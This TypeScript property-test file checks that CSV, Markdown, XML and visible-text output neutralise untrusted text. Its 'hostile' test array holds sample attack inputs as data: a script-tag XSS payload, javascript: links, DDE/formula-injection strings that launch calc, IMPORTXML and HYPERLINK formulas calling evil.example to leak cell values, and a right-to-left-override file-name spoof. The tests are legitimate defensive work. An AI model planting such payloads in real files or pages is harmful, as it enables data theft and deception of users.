import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { xmlText } from "./atom-feed.ts";
import { toCsv, toMarkdown } from "./text-table.ts";
import { visibleSegments } from "./visible-text.ts";

const hostile = [
  "<script>alert(1)</script>",
  "javascript:alert(1)",
  '=HYPERLINK("http://evil.example","click")',
  "+1+cmd|' /C calc'!A0",
  "@SUM(A1)",
  "\t=1+1",
  "\u200b=1+1",
  "\ufeff\u0000=1+1",
  "\uff1d1+1",
  "\uff20SUM(A1)",
  "\r\n=1+1",
  "-2+3+cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
  "abc\u202egpj.exe",
  "a\u200bb\u2066c\u2069",
  "lone \ud800 surrogate",
  'line\nend, "quote"',
  "| pipe | [link](javascript:alert(1)) `code`",
];
const texts = fc.oneof(fc.constantFrom(...hostile), fc.string({ unit: "binary" }), fc.string());

describe("text from outside", () => {
  test("never keeps a bidirectional, zero-width or control character as it is", () => {
    fc.assert(
      fc.property(texts, (text) => {
        const shown = visibleSegments(text)
          .map((segment) => segment.text)
          .join("");
        expect(shown).not.toMatch(/[\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff\u0000-\u0008\u000e-\u001f]/);
      }),
    );
  });

  test("loses nothing else", () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom("a", "é", "漢", "😀", " ", "\n", "<", "&") }), (text) => {
        expect(
          visibleSegments(text)
            .map((segment) => segment.text)
            .join(""),
        ).toBe(text);
      }),
    );
  });

  test("shows white space on demand, line by line", () => {
    const shown = visibleSegments(" a  b \n\tc", { whitespace: true });
    expect(shown.map((segment) => segment.text).join("")).toBe("·a  b·↵\n→\tc");
  });

  test("names what it spells out", () => {
    expect(visibleSegments("a\u202eb")).toEqual([
      { text: "a", note: null },
      { text: "⟨U+202E⟩", note: "invisible character U+202E" },
      { text: "b", note: null },
    ]);
  });
});

describe("CSV", () => {
  test("is read back by any reader, and no cell is a formula", () => {
    fc.assert(
      fc.property(fc.array(texts, { minLength: 2, maxLength: 2 }), (cells) => {
        const csv = toCsv({ head: ["a", "b"], rows: [cells] });
        const [, row = []] = parse(csv, {
          relax_column_count: true,
          bom: false,
          record_delimiter: "\r\n",
        }) as string[][];
        expect(row).toHaveLength(2);
        row.forEach((cell, at) => {
          const sent = cells[at]?.toWellFormed();
          expect([sent, `'${sent}`]).toContain(cell);
          expect(cell).not.toMatch(/^[\s\p{Cc}\p{Cf}]*[=+@|%\uff1d\uff0b\uff0d\uff20]/u);
        });
      }),
    );
  });

  test("leaves numbers as numbers", () => {
    expect(toCsv({ head: ["x"], rows: [["-1.5"], ["2e-3"], ["-x"]] })).toBe("x\r\n-1.5\r\n2e-3\r\n'-x\r\n");
  });
});

test("a Markdown table stays one table, whatever is in its cells", () => {
  fc.assert(
    fc.property(texts, (text) => {
      const lines = toMarkdown({ head: ["a", "b"], rows: [[text, "x"]] })
        .trimEnd()
        .split("\n");
      expect(lines).toHaveLength(3);
      expect(lines[2]?.replace(/\\./g, "").match(/\|/g)).toHaveLength(3);
      expect(lines[2]?.replace(/\\./g, "")).not.toMatch(/[<[\]`]/);
    }),
  );
});

test("XML holds no markup and no character that XML forbids", () => {
  fc.assert(
    fc.property(texts, (text) => {
      const xml = xmlText(text);
      expect(xml).not.toMatch(/[<>"]|&(?!amp;|lt;|gt;|quot;)/);
      expect(xml).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/);
    }),
  );
});
